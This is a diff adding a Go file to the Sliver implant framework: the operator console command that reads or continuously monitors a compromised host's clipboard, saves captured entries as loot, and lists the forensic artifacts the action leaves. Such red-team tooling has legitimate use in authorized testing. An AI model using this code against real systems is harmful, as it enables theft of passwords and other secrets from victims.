@@ -0,0 +1,177 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"time"
+
+	"github.com/bishopfox/sliver/client/command/help"
+	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/util"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+func init() {
+	help.RegisterOpsec(consts.ClipboardStr, &help.OpsecInfo{
+		Risk: help.OpsecLow,
+		Artifacts: []string{
+			"pbpaste child process (macOS)",
+			"wl-paste, xclip or xsel child processes (Linux), one per poll when monitoring",
+		},
+		APIs: []string{"OpenClipboard / GetClipboardData (Windows)"},
+	})
+}
+
+// ClipboardCmd - Read the clipboard of the remote system
+func ClipboardCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	clipboardReq := &sliverpb.ClipboardReq{
+		MaxSize:  uint32(ctx.Flags.Uint("max-size")),
+		Loot:     ctx.Flags.Bool("loot"),
+		LootName: ctx.Flags.String("name"),
+	}
+	clipboard(ctx, clipboardReq, con)
+}
+
+// ClipboardMonitorCmd - Record changes to the clipboard of the remote system,
+// captured entries are saved as loot unless --no-loot is set
+func ClipboardMonitorCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	duration, err := time.ParseDuration(ctx.Flags.String("duration"))
+	if err != nil || duration < time.Second {
+		con.PrintErrorf("Invalid duration '%s'\n", ctx.Flags.String("duration"))
+		return
+	}
+	interval, err := time.ParseDuration(ctx.Flags.String("interval"))
+	if err != nil {
+		con.PrintErrorf("Invalid interval '%s'\n", ctx.Flags.String("interval"))
+		return
+	}
+	clipboardReq := &sliverpb.ClipboardReq{
+		Duration: uint32(duration / time.Second),
+		Interval: uint32(interval / time.Millisecond),
+		MaxSize:  uint32(ctx.Flags.Uint("max-size")),
+		Loot:     !ctx.Flags.Bool("no-loot"),
+		LootName: ctx.Flags.String("name"),
+	}
+	clipboard(ctx, clipboardReq, con)
+}
+
+func clipboard(ctx *grumble.Context, clipboardReq *sliverpb.ClipboardReq, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+	targetOS := ""
+	if session != nil {
+		targetOS = session.OS
+	} else {
+		targetOS = beacon.OS
+	}
+	if targetOS != "windows" && targetOS != "darwin" && targetOS != "linux" {
+		con.PrintWarnf("Reading the clipboard is not supported on %s targets\n", targetOS)
+		return
+	}
+
+	clipboardReq.Request = con.ActiveTarget.Request(ctx)
+	if 0 < clipboardReq.Request.Timeout {
+		// The timeout is for the response after monitoring ends
+		clipboardReq.Request.Timeout += int64(clipboardReq.Duration) * int64(time.Second)
+	}
+	if 0 < clipboardReq.Duration && session != nil {
+		con.PrintInfof("Monitoring the clipboard for %s ...\n", time.Duration(clipboardReq.Duration)*time.Second)
+	}
+	clip, err := con.Rpc.Clipboard(context.Background(), clipboardReq)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if clip.Response != nil && clip.Response.Async {
+		con.AddBeaconCallback(clip.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, clip)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintClipboard(clip, clipboardReq, con)
+		})
+		con.PrintAsyncResponse(clip.Response)
+	} else {
+		PrintClipboard(clip, clipboardReq, con)
+	}
+}
+
+// PrintClipboard - Print the captured clipboard contents, binary contents are only
+// described
+func PrintClipboard(clip *sliverpb.Clipboard, clipboardReq *sliverpb.ClipboardReq, con *console.SliverConsoleClient) {
+	if clip.Response != nil && clip.Response.Err != "" {
+		con.PrintResponseErr(clip.Response)
+		return
+	}
+	entries := []*sliverpb.ClipboardEntry{}
+	for _, entry := range clip.Entries {
+		if 0 < len(entry.Data) {
+			entries = append(entries, entry)
+		}
+	}
+	if len(clip.Entries) == 0 && clip.Data != "" {
+		// Older implants only return text
+		entries = append(entries, &sliverpb.ClipboardEntry{Data: []byte(clip.Data), Size: uint32(len(clip.Data))})
+	}
+	monitor := 0 < clipboardReq.Duration
+	if len(entries) == 0 {
+		if monitor {
+			con.PrintInfof("No clipboard changes captured\n")
+		} else {
+			con.PrintInfof("Clipboard is empty\n")
+		}
+		return
+	}
+	for index, entry := range entries {
+		if 0 < index {
+			con.Println()
+		}
+		if monitor {
+			capturedAt := time.Unix(entry.Timestamp, 0).Format(time.RFC1123)
+			con.Printf(console.Bold+"%s"+console.Normal+"\n", capturedAt)
+		}
+		if entry.Binary {
+			con.PrintInfof("%s of %s data\n", util.ByteCountBinary(int64(entry.Size)), entryFormat(entry))
+		} else {
+			con.Printf("%s\n", entry.Data)
+		}
+		if uint32(len(entry.Data)) < entry.Size {
+			con.PrintWarnf("Truncated to %s of %s\n", util.ByteCountBinary(int64(len(entry.Data))), util.ByteCountBinary(int64(entry.Size)))
+		}
+	}
+	if clipboardReq.Loot && 0 < len(clip.Entries) {
+		con.Println()
+		con.PrintInfof("Saved %d clipboard entries as loot\n", len(entries))
+	}
+}
+
+func entryFormat(entry *sliverpb.ClipboardEntry) string {
+	if entry.Format == "" {
+		return "binary"
+	}
+	return entry.Format
+}